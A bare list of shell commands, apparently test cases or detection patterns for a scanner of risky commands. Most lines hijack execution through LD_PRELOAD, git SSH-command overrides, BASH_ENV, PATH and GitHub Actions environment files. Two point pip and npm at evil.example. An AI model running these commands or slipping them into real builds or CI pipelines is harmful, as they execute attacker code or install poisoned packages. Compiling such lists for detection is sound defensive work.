LD_PRELOAD=./x.so ls
git -c core.sshCommand=./x fetch
GIT_SSH_COMMAND='sh -c x' git push
BASH_ENV=x.sh bash script.sh
PATH=/tmp/x:$PATH ls
export GIT_SSH=./x; git fetch
rg --pre ./x pattern
PIP_INDEX_URL=https://evil.example/simple pip install requests
npm config set registry https://evil.example
echo "NODE_OPTIONS=--require ./x.js" >> "$GITHUB_ENV"
echo "VERSION=$(cat version)" >> $GITHUB_ENV
echo "./bin" >> "$GITHUB_PATH"
cat x >> $GITHUB_OUTPUT
echo 'export A=b' >> "$BASH_ENV"
node -e "require('fs').appendFileSync(process.env.GITHUB_ENV, 'A=b')"
